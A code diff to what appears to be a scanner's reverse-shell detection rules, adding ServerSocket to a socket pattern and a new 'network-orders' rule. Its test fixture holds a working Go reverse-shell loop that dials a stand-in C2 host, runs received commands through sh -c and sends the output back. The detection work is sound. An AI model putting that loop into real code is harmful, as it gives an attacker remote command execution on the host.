@@ -224,8 +224,16 @@ export const reverseShell: RuleSet = {
           is(['proc_open('], /proc_open\(\s*["'](?:\/bin\/)?(?:ba)?sh/),
         ),
         is(
-          ['net.dial', 'new socket(', 'tcpclient', 'tcpstream::connect', 'fsockopen', 'new socket '],
-          /net\.Dial(?:Timeout)?\(\s*"(?:tcp|udp)|new Socket\(\s*[\w"]|TcpClient\(|TcpStream::connect|fsockopen\(/i,
+          [
+            'net.dial',
+            'new socket(',
+            'new serversocket(',
+            'tcpclient',
+            'tcpstream::connect',
+            'fsockopen',
+            'new socket ',
+          ],
+          /net\.Dial(?:Timeout)?\(\s*"(?:tcp|udp)|new (?:Server)?Socket\(\s*[\w"]|TcpClient\(|TcpStream::connect|fsockopen\(/i,
         ),
         is(
           [
@@ -258,6 +266,27 @@ export const reverseShell: RuleSet = {
         go('cmd := exec.Command("sh", "-c", script)\ncmd.Stdin = os.Stdin'),
         java('Socket s = new Socket(host, port);\nInputStream in = s.getInputStream();'),
       ],
+    },
+    {
+      id: id('network-orders'),
+      severity: 'critical',
+      why: 'Reads lines from a network connection and gives them to a shell.',
+      when: near(
+        20,
+        is(
+          ['exec.command(', 'processbuilder(', 'getruntime()', 'command::new('],
+          /(?:exec\.Command|ProcessBuilder|getRuntime\(\)\.exec|Command::new)\(\s*(?:new String\[\]\s*\{\s*)?"(?:\/bin\/)?(?:sh|bash|cmd(?:\.exe)?)"(?:\)\.(?:arg|args)\(\s*&?\[?)?\s*,?\s*"[-/]c"/,
+        ),
+        is(['net.dial', 'new socket(', 'tcpstream::connect', 'net.listen', 'tls.dial', 'serversocket('], null),
+        is(['readstring(', 'newscanner(', '.read(', 'readline(', 'read_line(', 'newreader('], null),
+        is(['.write(', 'fprint', 'println(', 'write_all(', 'getoutputstream('], null),
+      ),
+      matches: [
+        go(
+          'conn, _ := net.Dial("tcp", "c2.example.invalid:443")\nfor {\n  order, _ := bufio.NewReader(conn).ReadString(10)\n  out, _ := exec.Command("sh", "-c", order).CombinedOutput()\n  conn.Write(out)\n}',
+        ),
+      ],
+      misses: [go('out, _ := exec.Command("sh", "-c", script).Output()\nfmt.Println(string(out))')],
     },
     {
       id: id('powershell-tcp'),
